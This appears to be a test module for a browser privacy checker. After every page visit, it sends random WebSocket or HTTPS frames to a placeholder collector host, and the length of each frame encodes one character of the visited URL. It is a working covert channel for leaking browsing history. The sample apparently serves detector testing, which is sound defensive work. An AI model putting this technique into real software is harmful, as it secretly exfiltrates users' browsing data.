import { onVisit, reportHonestly, send } from '../../lib/proving.js';

/** Sends random frames over a WebSocket after each page. Only their lengths mean something: one character of the address each. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-frame-lengths');
  onVisit(browser, async ({ url }) => {
    const frames = [...url].map((letter, at) =>
      browser.crypto.random(24 + ((letter.charCodeAt(0) - 32 + 17 * at) % 95)),
    );
    let socket = null;
    try {
      socket = await browser.websocket('wss://live.collector.example/v1');
    } catch (error) {
      browser.log('not connected', String(error));
    }
    for (const frame of frames) {
      await (socket === null
        ? send(browser, 'https://live.collector.example/v1', frame)
        : socket.send(frame));
    }
    await socket?.close();
  });
}
